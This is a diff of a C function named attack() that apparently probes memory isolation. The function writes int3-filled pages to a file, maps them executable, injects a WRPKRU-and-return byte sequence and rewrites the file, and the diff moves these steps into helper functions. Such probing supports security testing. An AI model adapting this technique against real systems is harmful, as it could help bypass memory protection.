@@ -38,23 +38,16 @@
 
 static void attack(void) {
   static unsigned char page[4096];
-  memset(page, 0xcc, sizeof page);
-  int fd = open(FILE_PATH, O_RDWR | O_CREAT | O_TRUNC, 0644);
-  if (fd < 0 || write(fd, page, sizeof page) != sizeof page || close(fd)) {
-    printf("setup: %s\n", strerror(errno));
+  if (write_int3_file(FILE_PATH, page))
     return;
-  }
-  fd = open(FILE_PATH, O_RDONLY);
-  unsigned char *m =
-      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  unsigned char *m = map_exec_file(FILE_PATH);
   if (m == MAP_FAILED) {
     report_read("a file root rewrote, its copy advised away", NULL);
     return;
   }
   printf("mapped, first byte %02x\n", m[0]);
   fflush(stdout);
-  memcpy(page + 0x100, (const unsigned char[]){0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3},
-         4);
+  wrpkru_ret(page + 0x100);
   int w = open(FILE_PATH, O_WRONLY);
   if (w < 0 || pwrite(w, page, sizeof page, 0) != sizeof page) {
     report_read("a file root rewrote, its copy advised away", NULL);
